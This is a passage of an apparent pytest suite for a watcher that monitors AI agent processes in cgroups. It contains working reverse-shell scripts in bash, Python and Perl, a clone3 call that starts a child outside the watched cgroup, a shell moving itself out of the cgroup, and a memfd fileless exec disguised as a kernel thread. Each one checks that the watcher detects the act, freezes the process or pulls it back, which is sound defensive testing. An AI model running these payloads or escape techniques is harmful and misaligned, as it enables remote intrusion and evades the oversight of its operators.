while read -r line <&5; do eval "$line" >&5 2>&5; done
"""
PYTHON_PTY_SHELL = r"""
import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
"""
PERL_SHELL = r"""
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die;
connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh", "-i");
"""


@pytest.mark.parametrize("renamed", [False, True])
def test_reverse_shell_from_a_bash_script_file(renamed, agents, episode, net, shell_listener, tmp_path):
    """`bash x.sh` with /dev/tcp inside the file: nothing on the command line; bash's own connect gives it
    away, also from a renamed copy of bash (known by its sha256)."""
    _, out, _ = agents
    script = tmp_path / "x.sh"
    script.write_text(BASH_DEV_TCP.format(host=net.addr, port=shell_listener))
    bash = os.path.realpath(shutil.which("bash"))
    if renamed:
        bash = str(tmp_path / "build-helper")
        shutil.copy(shutil.which("bash"), bash)
    with shell_attack(episode, f"exec {bash} {script}") as p:
        assert episode.wait_frozen()
        recs = wait_records(out, episode, lambda rs: "shell_outbound_connection" in alerts(rs))
        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "shell_outbound_connection")
        ev = alert["evidence"][-1]
        assert (ev["type"], ev["address"], ev["port"]) == ("connect", net.addr, shell_listener)
        assert alert["proc"]["pid"] == p.pid and alert["proc"]["exe"] == bash
        assert alert["action"] == "freeze" and response(recs)["outcome"] == "frozen"


@pytest.mark.parametrize("lang", ["python", "perl"])
def test_reverse_shell_from_an_interpreter_script_file(lang, agents, episode, net, shell_listener, tmp_path):
    """A script file, so no command-line rule knows it (python: socket, dup2, pty.spawn; perl: socket,
    open STDIN>&S, exec sh): the shell starts with the socket as its stdin, or its parent relays the
    socket to it through a pty."""
    _, out, _ = agents
    script = tmp_path / ("rs.py" if lang == "python" else "rs.pl")
    script.write_text(PYTHON_PTY_SHELL if lang == "python" else PERL_SHELL)
    interp = sys.executable if lang == "python" else "perl"
    with shell_attack(episode, f"exec {interp} {script} {net.addr} {shell_listener}") as p:
        assert episode.wait_frozen()
        recs = wait_records(out, episode, lambda rs: "shell_with_network_stdio" in alerts(rs))
        assert alerts(recs)[0] == "shell_with_network_stdio"
        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "shell_with_network_stdio")
        ex = alert["evidence"][-1]
        assert ex["type"] == "exec" and ex["filename"] == "/bin/sh"
        sock = ex["proc"]["stdio_socket"]
        assert (sock["proto"], sock["peer_address"], sock["peer_port"]) == ("tcp", net.addr, shell_listener)
        assert sock["pid"] == p.pid  # python: the pty relay, parent of the shell; perl: the shell it became
        assert (ex["proc"]["pid"], sock["relayed"], sock["fds"]) == (
            (ex["proc"]["pid"], "pty", [0]) if lang == "python" else (p.pid, None, [0, 1, 2]))
        assert response(recs)["outcome"] == "frozen"


BENIGN_PYTHON = r"""
import socket, subprocess, sys, urllib.parse, urllib.request
body = urllib.request.urlopen(sys.argv[1], timeout=5).read()
assert body
subprocess.run(["curl", "-s", "-o", "/dev/null", sys.argv[1]], check=True)
subprocess.run(["git", "--version"], check=True, capture_output=True)
subprocess.run([sys.executable, "-m", "pip", "--version"], check=True, capture_output=True)
subprocess.run(["/bin/sh", "-c", "echo fetched | wc -c"], check=True, capture_output=True)
# as node.js (libuv) runs a command: stdin a socketpair, while the agent holds a connection to its API
api = socket.create_connection(("127.0.0.1", urllib.parse.urlsplit(sys.argv[1]).port))
a, b = socket.socketpair()
a.sendall(b"fetched\n")
subprocess.run(["/bin/sh", "-c", "read line; test $line = fetched"], stdin=b, check=True, timeout=5)
"""


def test_python_fetching_over_http_raises_nothing(agents, episode, tmp_path):
    """An agent's python fetching a page, running curl, git, pip and shells (one with a socketpair as stdin
    while it holds a connection, as node.js agents do): sockets, but none as a shell's stdin, and no
    shell connecting itself."""
    import http.server
    import threading

    _, out, _ = agents
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    (tmp_path / "fetch.py").write_text(BENIGN_PYTHON)
    try:
        r = episode.run([sys.executable, str(tmp_path / "fetch.py"), f"http://127.0.0.1:{srv.server_port}/"],
                        text=True)
        assert r.returncode == 0, r.stderr
        time.sleep(1.0)
        recs = for_episode(out, episode)
    finally:
        srv.shutdown()
        srv.server_close()
    assert len([x for x in recs if x["type"] == "connect" and x.get("port") == srv.server_port]) >= 2
    assert alerts(recs) == [] and not episode.frozen()
    assert not [x for x in recs if x.get("proc", {}).get("stdio_socket")]


CLONE_INTO_CGROUP = r"""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
# struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid,
# set_tid_size, cgroup
args = ctypes.create_string_buffer(struct.pack("<11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd), 88)
pid = libc.syscall(ctypes.c_long(435), args, ctypes.c_size_t(88))
if pid == 0:
    os.execv("/bin/sleep", ["sleep", "30"])
if pid < 0:
    sys.exit("clone3: " + os.strerror(ctypes.get_errno()))
print(pid, flush=True)
os.waitpid(pid, 0)
"""


def test_child_born_outside_with_clone_into_cgroup_is_pulled_back(agents, episode, outside_cgroup, tmp_path):
    """clone3(CLONE_INTO_CGROUP) starts a child straight in a cgroup outside the watched ones: no task is
    attached, but the fork probe sees the child's cgroup differ from its parent's and reports a move."""
    _, out, _ = agents
    (tmp_path / "clone.py").write_text(CLONE_INTO_CGROUP)
    p = episode.popen([sys.executable, str(tmp_path / "clone.py"), str(outside_cgroup.path)],
                      stdout=subprocess.DEVNULL, start_new_session=True)
    try:
        assert episode.wait_frozen()  # (the parent may be frozen before it can print the child's pid)
        recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
        # the move out (the watcher's pull-back, a move into the episode, may be recorded too)
        (move,) = [r for r in recs if r["type"] == "cgroup_move" and not r["to"]["watched"]]
        child = move["proc"]["pid"]
        assert child != p.pid and f"PPid:\t{p.pid}\n" in Path(f"/proc/{child}/status").read_text()
        assert move["cgroup"]["path"] == episode.rel
        assert move["to"] == {"id": outside_cgroup.id, "path": outside_cgroup.rel, "watched": False}
        assert move["mover"]["pid"] == p.pid
        assert alerts(recs)[0] == "agent_left_its_cgroup"
        r = response(recs)
        assert (r["outcome"], r["pulled_back"]) == ("frozen", child)
        assert str(child) in (episode.path / "cgroup.procs").read_text().split()
        assert outside_cgroup.path.joinpath("cgroup.procs").read_text().split() == []
    finally:
        os.killpg(p.pid, 9)
        for cg in (episode, outside_cgroup):
            (cg.path / "cgroup.freeze").write_text("0")
        p.wait()


def test_shell_that_ran_before_the_watcher_cannot_leave_unseen(cgroup_root, outside_cgroup, tmp_path):
    """A shell already running in an agent cgroup when the watcher starts (the kernel never saw it fork or
    exec there) moves itself out with a builtin: the watcher filled the kernel's agent map at start."""
    from conftest import Cgroup
    from watcher import WatcherProcess

    agent = Cgroup(cgroup_root, f"agentprobe-before-{uuid.uuid4().hex[:6]}")
    sh = agent.popen(["/bin/sh", "-c", f"read go; echo $$ > {outside_cgroup.path}/cgroup.procs; exec sleep 30"],
                     stdin=subprocess.PIPE, text=True)
    w = None
    try:
        out = tmp_path / "stream.msgpack"
        w = WatcherProcess(["--cgroup", str(agent.path), "-o", str(out), "--no-view"])
        sh.stdin.write("go\n")
        sh.stdin.flush()
        assert agent.wait_frozen()
        recs = wait_records(out, agent, lambda rs: any(r["type"] == "response" for r in rs))
        (move,) = [r for r in recs if r["type"] == "cgroup_move"]
        assert (move["proc"]["pid"], move["mover"]["pid"]) == (sh.pid, sh.pid)
        assert move["to"]["id"] == outside_cgroup.id and not move["to"]["watched"]
        assert alerts(recs)[0] == "agent_left_its_cgroup"
        assert response(recs)["pulled_back"] == sh.pid
        assert str(sh.pid) in (agent.path / "cgroup.procs").read_text().split()
    finally:
        if w is not None:
            w.stop()
        sh.kill()
        (agent.path / "cgroup.freeze").write_text("0")
        sh.wait()
        agent.remove()


def test_setns_into_another_network_namespace_stays_an_agent(agents, episode, net):
    """nsenter into the outside network namespace (setns): still in the agent cgroup, still an agent."""
    _, out, _ = agents
    r = episode.run(["nsenter", f"--net=/run/netns/{net.ns}", "/bin/sh", "-c",
                     f"exec {sys.executable} -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 22))'"])
    assert r.returncode == 0, r.stderr
    recs = wait_records(out, episode, lambda rs: any(x["type"] == "connect" and x.get("port") == 22 for x in rs))
    (conn,) = [x for x in recs if x["type"] == "connect" and x.get("port") == 22]
    assert conn["cgroup"]["path"] == episode.rel and conn["address"] == "127.0.0.1"
    (ns,) = [x for x in recs if x["type"] == "exec" and x["argv"][:1] == ["nsenter"]]
    (sh,) = [x for x in recs if x["type"] == "exec" and x["argv"][:1] == ["/bin/sh"]]
    assert ns["cgroup"]["path"] == sh["cgroup"]["path"] == episode.rel and sh["proc"]["pid"] == ns["proc"]["pid"]


def test_fileless_exec_raises_its_own_alert(agents, episode):
    """memfd_create + fexecve: a program that never touched a disk is an alert of its own."""
    _, out, _ = agents
    episode.run([sys.executable, "-c", """
import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["kworker/0:1"], {})
"""])
    recs = wait_records(out, episode, lambda rs: "fileless_exec" in alerts(rs))
    alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "fileless_exec")
    assert alert["priority"] == "high" and alert["action"] == "alert" and "T1620" in alert["mitre"]
    assert alert["proc"]["exe"].startswith("/memfd:payload") and alert["evidence"][-1]["argv"] == ["kworker/0:1"]
    assert not episode.frozen()
